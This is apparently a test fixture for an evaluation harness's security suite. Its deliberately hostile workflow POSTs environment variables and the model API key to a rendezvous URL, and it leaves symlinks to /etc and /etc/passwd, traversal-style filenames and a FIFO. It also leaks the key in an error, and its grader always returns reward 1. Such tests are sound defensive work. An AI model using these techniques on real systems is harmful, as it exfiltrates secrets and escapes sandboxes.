/**
 * The user's module of the security suite: a workflow that tells the suite everything it can see, waits until it may go on, leaves artifacts that point
 * elsewhere and fails with what it knows.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { GraderContext, WorkflowContext } from '../../../src/backends/local/user-code.ts';

/** What the metadata of a rollout says. */
export interface HeldMetadata {
  /** Told what the workflow sees; its answer lets it go on. Absent = it ends at once. */
  readonly rendezvous?: string;
  readonly name: string;
  /** A file that no artifact may bring out. */
  readonly outside?: string;
  /** Ends by an error that quotes every key it knows. */
  readonly isBlabbing?: boolean;
}

/** What arrives at the rendezvous. */
export interface Sight {
  readonly name: string;
  readonly model: { readonly baseUrl: string; readonly apiKey: string } | null;
  /** Everything else that reached the workflow. */
  readonly seen: unknown;
}

export class Held {
  async run({ metadata, model, artifactsDir, prompt, config }: WorkflowContext) {
    const { rendezvous, name, outside, isBlabbing } = metadata as unknown as HeldMetadata;
    if (rendezvous !== undefined) {
      const sight: Sight = {
        ...{ name, model },
        seen: { prompt, config, metadata, variables: process.env, argv: process.argv },
      };
      await (await fetch(rendezvous, { method: 'POST', body: JSON.stringify(sight) })).text();
    }
    if (artifactsDir !== null && outside !== undefined) leaveTricks(artifactsDir, outside);
    if (isBlabbing === true) throw new Error(`refused ${model?.apiKey} for ${name}`);
    return [{ role: 'assistant', content: 'done' }];
  }
}

export class Grading {
  async grade({ setReward }: GraderContext): Promise<void> {
    setReward(1);
    return Promise.resolve();
  }
}

function leaveTricks(dir: string, outside: string): void {
  writeFileSync(join(dir, 'plain.txt'), 'plain');
  symlinkSync(outside, join(dir, 'absolute-link'));
  symlinkSync('/etc', join(dir, 'folder-link'));
  symlinkSync('../../../../../../../../etc/passwd', join(dir, 'way-out'));
  mkdirSync(join(dir, 'nested'));
  symlinkSync('..', join(dir, 'nested', 'up'));
  writeFileSync(join(dir, 'nested', '..%2f..%2fodd\nname'), 'odd');
  execFileSync('mkfifo', [join(dir, 'pipe')]);
}
